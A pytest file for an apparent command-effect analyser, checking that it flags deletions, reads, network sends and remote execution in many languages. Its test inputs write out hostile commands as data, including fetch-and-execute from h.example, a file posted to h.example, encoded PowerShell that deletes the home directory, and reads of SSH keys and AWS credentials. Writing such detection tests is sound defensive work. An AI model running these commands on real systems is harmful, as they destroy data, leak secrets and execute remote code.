"""Code in command lines has effects, in every supported language."""

import base64
import sys
import tomllib
import warnings
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from trotline.analysis.analyze import analyze_command
from trotline.analysis.code.languages import load_languages
from trotline.analysis.shell.shell_state import Environment
from trotline.domain.effects import Certainty, Effect

ROOT = Path(__file__).parent.parent
ENVIRONMENT = Environment("/home/ann/app", ("/home/ann/app",), "/home/ann", "ann")


def _told(effect: Effect) -> str:
    deep = "deep " if effect.recursive else ""
    return f"{deep}{effect.kind} {effect.path or effect.host or effect.target or effect.source}"


def _effects(line: str) -> list[str]:
    return [_told(effect) for effect in analyze_command(line, ENVIRONMENT).effects]


PYTHON = {
    "import shutil; shutil.rmtree('/srv')": ["deep delete /srv"],
    "from shutil import rmtree as r; r('/s' + 'rv')": ["deep delete /srv"],
    "import os; p = os.path.join('/srv', 'a'); os.remove(p)": ["delete /srv/a"],
    "import os; d = '/srv'; os.unlink(f'{d}/a')": ["delete /srv/a"],
    "import os; os.remove(os.path.expanduser('~/a'))": ["delete /home/ann/a"],
    "import os; os.remove(os.environ['HOME'] + '/a')": ["delete /home/ann/a"],
    "from pathlib import Path; (Path.home() / 'a').unlink()": ["delete /home/ann/a"],
    "from pathlib import Path; Path('/srv').joinpath('a').write_text('x')": ["write /srv/a"],
    "from pathlib import Path; [p.unlink() for p in Path('/srv').rglob('*')]": ["deep delete /srv/**/*"],
    "import os\nfor d, _, names in os.walk('/srv'):\n for n in names:\n  os.remove(os.path.join(d, n))": [
        "deep delete /srv/**/*"
    ],
    "import os\nfor n in ['a', 'b']: os.remove(n)": ["delete /home/ann/app/a", "delete /home/ann/app/b"],
    "import os; getattr(os, 'sys' + 'tem')('rm a')": ["delete /home/ann/app/a"],
    "__import__('os').system('rm a')": ["delete /home/ann/app/a"],
    "import subprocess as s; s.run(['rm', '-r', 'a'])": ["deep delete /home/ann/app/a"],
    "import subprocess; subprocess.check_output('rm a', shell=True)": ["delete /home/ann/app/a"],
    "import os; os.execvp('rm', ['rm', 'a'])": ["delete /home/ann/app/a"],
    "import sys, os; os.remove(sys.argv[1])": ["delete /srv/given"],
    "exec('import os; os.remove(\"a\")')": ["delete /home/ann/app/a"],
    "def f(p):\n import os\n os.remove(p)\nf('a')": ["delete /home/ann/app/a"],
    "def f(p):\n import os\n os.remove(p)": [],
    "open('a', 'w').write('b')": ["write /home/ann/app/a"],
    "print(open('a').read())": ["read /home/ann/app/a"],
    "import os; print(os.environ)": ["read environment"],
    "import os; os.getenv('TOKEN')": ["read TOKEN"],
    "print('rm -rf /')": [],
    "x = ['rm', '-rf', '/']; print(x)": [],
    "items = []; items.remove('/etc')": [],
    "os = object(); os.remove('/etc')": [],
    "import re; re.compile('a').match('b')": [],
    "import shutil; shutil.move('a', '/srv/b')": ["deep delete /home/ann/app/a", "write /srv/b"],
    "import requests; requests.post('https://h.example/x', data=open('a').read())": [
        "read /home/ann/app/a",
        "send h.example",
    ],
    "import urllib.request as u; exec(u.urlopen('https://h.example').read())": ["fetch h.example", "execute network"],
    "print 'two'; import os; os.system('rm a')": ["delete /home/ann/app/a"],
}


@pytest.mark.parametrize("code", PYTHON)
def test_python_calls_have_effects(code: str) -> None:
    quoted = code.replace("'", "'\\''")
    assert _effects(f"python3 -c '{quoted}' /srv/given") == PYTHON[code]


def test_python_code_is_found_in_arguments_pipes_and_files() -> None:
    code = "import os\nos.remove('/srv/a')"
    assert _effects(f"python3 - <<'E'\n{code}\nE") == ["delete /srv/a"]
    assert _effects(f"cat > x.py <<'E'\n{code}\nE\npython3 x.py")[-1] == "delete /srv/a"
    assert _effects("curl -s https://h.example/x | python3")[-1] == "execute network"
    assert _effects("python3 tool.py --flag") == ["execute /home/ann/app/tool.py"]
    hidden = base64.b64encode(code.encode()).decode()
    assert _effects(f"python3 -c \"import base64; exec(base64.b64decode('{hidden}'))\"") == [
        "execute decoded",
        "delete /srv/a",
    ]


def test_the_output_of_code_is_analysed_by_the_next_shell() -> None:
    assert _effects("python3 -c \"print('rm a')\" | sh") == ["delete /home/ann/app/a"]
    assert _effects("perl -e 'print \"rm a\"' | sh") == ["delete /home/ann/app/a"]


OTHERS = {
    'node -e \'require("fs").rmSync("/srv", {recursive: true})\'': ["deep delete /srv"],
    'node -e \'const {execSync: go} = require("child_process"); go("rm a")\'': ["delete /home/ann/app/a"],
    "node --eval='import {unlinkSync} from \"node:fs\"; unlinkSync(`${process.env.HOME}/a`)'": ["delete /home/ann/a"],
    'node -e \'require("fs")["unlink" + "Sync"]("a")\'': ["delete /home/ann/app/a"],
    "node -p 'console.log(\"rm -rf /\")'": [],
    'node -e \'// require("fs").rmSync("/srv")\'': [],
    "node -e '/rm -rf \\//.exec(\"x\")'": [],
    "deno eval 'Deno.removeSync(\"/srv\")'": ["delete /srv"],
    'perl -e \'system("rm", "a")\'': ["delete /home/ann/app/a"],
    'perl -we \'unlink "a", "b"\'': ["delete /home/ann/app/a", "delete /home/ann/app/b"],
    "perl -e 'my $h = $ENV{HOME}; unlink(\"$h/a\")'": ["delete /home/ann/a"],
    "perl -e 'qx{rm a}'": ["delete /home/ann/app/a"],
    'perl -e \'open(my $f, ">", "a")\'': ["write /home/ann/app/a"],
    "perl -e '# unlink(\"a\")'": [],
    "perl -i.bak -pe 's/a/b/' f": ["read /home/ann/app/f", "write /home/ann/app/f"],
    "perl -lane 'print $F[0]' f": ["read /home/ann/app/f"],
    "ruby -e 'FileUtils.rm_rf \"/srv\"'": ["deep delete /srv"],
    "ruby -e '`rm a`'": ["delete /home/ann/app/a"],
    "ruby -e 'Dir.glob(\"/srv/*\").each { |f| File.delete(f) }'": ["delete /srv/*"],
    "ruby -e 'puts \"rm -rf /\"'": [],
    'php -r \'unlink("/srv/" . "a");\'': ["delete /srv/a"],
    "php -r 'shell_exec(\"rm a\");'": ["delete /home/ann/app/a"],
    "lua -e 'os.execute(\"rm a\")'": ["delete /home/ann/app/a"],
    "lua -e '-- os.remove(\"a\")'": [],
    "Rscript -e 'unlink(\"/srv\", recursive = TRUE)'": ["deep delete /srv"],
    "julia -e 'rm(\"/srv\"; recursive=true)'": ["deep delete /srv"],
}


@pytest.mark.parametrize("line", OTHERS)
def test_calls_of_other_languages_have_effects(line: str) -> None:
    assert _effects(line) == OTHERS[line]


def test_scanned_effects_are_guessed_and_unknown_code_is_opaque() -> None:
    guessed = analyze_command('node -e \'require("fs").rmSync("a")\'', ENVIRONMENT).effects
    assert [effect.certainty for effect in guessed] == [Certainty.GUESSED]
    opaque = analyze_command("python3 -c 'import os, sys; os.system(input())'", ENVIRONMENT).effects
    assert [effect.certainty for effect in opaque] == [Certainty.OPAQUE]


ENCODED = base64.b64encode("Remove-Item -Recurse ~".encode("utf-16-le")).decode()
WINDOWS = {
    "pwsh -Command 'Remove-Item -Recurse \"$HOME/a\"'": ["deep delete /home/ann/a"],
    'powershell -c "ri -r C:\\srv"': ["deep delete /srv"],
    f"powershell -nop -w hidden -enc {ENCODED}": ["execute decoded", "deep delete /home/ann"],
    "pwsh -c 'iwr https://h.example/x | iex'": ["fetch h.example", "execute network"],
    "pwsh -c \"iex (New-Object Net.WebClient).DownloadString('https://h.example')\"": [
        "fetch h.example",
        "execute network",
    ],
    "pwsh -c 'gci /srv -Recurse | Remove-Item'": ["deep read /srv", "deep delete /srv/**/*"],
    "pwsh -c '$p = \"a\"; if (Test-Path $p) { Remove-Item $p }'": ["delete /home/ann/app/a"],
    "pwsh -c 'Remove-Item a -WhatIf'": [],
    "pwsh -c 'Write-Output \"Remove-Item a\"'": [],
    "pwsh -c '<# Remove-Item a #>'": [],
    "pwsh tool.ps1": ["execute /home/ann/app/tool.ps1"],
    "cmd /c rd /s /q %USERPROFILE%": ["deep delete /home/ann"],
    'cmd /c "echo del a & d^el b"': ["delete /home/ann/app/b"],
    "cmd /c del /s C:\\srv\\a": ["deep delete /srv/a"],
    "Remove-Item -Recurse -Force ~": ["deep delete /home/ann"],
    "Remove-Item a -WhatIf": [],
    "gci ~ -r | ri -fo": ["deep read /home/ann", "deep delete /home/ann/**/*"],
    "Get-Content $env:USERPROFILE\\.ssh\\id_rsa": ["read /home/ann/.ssh/id_rsa"],
    'Get-Content "$env:USERPROFILE\\a.txt"': ["read /home/ann/a.txt"],
    "iwr https://h.example/x.ps1 -OutFile x.ps1; .\\x.ps1": [
        "fetch h.example",
        "write /home/ann/app/x.ps1",
        "execute /home/ann/app/x.ps1",
    ],
    "rmdir /s /q C:\\srv": ["deep delete /srv"],
    "rmdir old": ["delete /home/ann/app/old"],
    "type %USERPROFILE%\\.aws\\credentials": ["read /home/ann/.aws/credentials"],
    "type ls": [],
    "copy src\\a.txt C:\\srv": ["read /home/ann/app/src/a.txt", "write /srv"],
    "takeown /f C:\\Windows /r": ["deep permissions /Windows"],
    "robocopy src C:\\srv /MIR": ["deep read /home/ann/app/src", "deep write /srv", "deep delete /srv"],
    "robocopy src C:\\srv /MIR /L": [],
    "echo clean | diskpart": ["disk the selected disk"],
    "echo 'list disk' | diskpart": [],
    "Get-Process | Stop-Process": ["deep process every process"],
    "Get-Process | Where-Object { $_.CPU -gt 9 } | Stop-Process": ["process "],
    "Set-ItemProperty -Path HKCU:\\Software\\Run -Name a -Value b": ["persist set-itemproperty hkcu:\\software\\run"],
    "Set-ItemProperty -Path a.txt -Name IsReadOnly -Value 1": [],
    "Remove-AzResourceGroup -Name shop": ["cloud Azure"],
    "Invoke-Sqlcmd -Query 'drop table orders' -Database shop": ["deep sql shop.orders"],
}


@pytest.mark.parametrize("line", WINDOWS)
def test_windows_shells_are_analysed(line: str) -> None:
    assert _effects(line) == WINDOWS[line]


def test_warnings_of_analysed_code_do_not_affect_other_threads() -> None:
    """Who looks at the filters in the middle of it sees those that hold for everybody, and no warning gets out."""
    line = "python3 -c \"import os; os.remove('/srv/\\d'); 1 is 1\""
    assert _effects(line) == ["delete /srv/\\d"]
    seen: set[int] = set()

    def look(*_: object) -> None:
        seen.add(id(warnings.filters))

    before = list(warnings.filters)
    sys.setprofile(look)
    try:
        effects = _effects(f"{line}; true")  # another line: of the same one the reading is kept
    finally:
        sys.setprofile(None)
    assert effects == ["delete /srv/\\d"]
    assert seen == {id(warnings.filters)}
    assert list(warnings.filters) == before


def test_code_is_analysed_in_parallel_threads() -> None:
    lines = [f"python3 -c \"import os; os.remove('/srv/\\d{number}')\"" for number in range(40)]
    shown = warnings.showwarning
    with ThreadPoolExecutor(8) as pool:
        assert list(pool.map(_effects, lines)) == [[f"delete /srv/\\d{number}"] for number in range(40)]
    assert warnings.showwarning is shown


def test_every_function_of_a_language_has_one_existing_action() -> None:
    for language in load_languages().values():
        assert all(language.find_action(function) for function in language.functions)
    tables = tomllib.loads((ROOT / "src/trotline/analysis/code/languages.toml").read_text("utf-8"))
    for table in tables.values():
        functions = [function for names in table["functions"].values() for function in names.split()]
        assert sorted(functions) == sorted(set(functions))
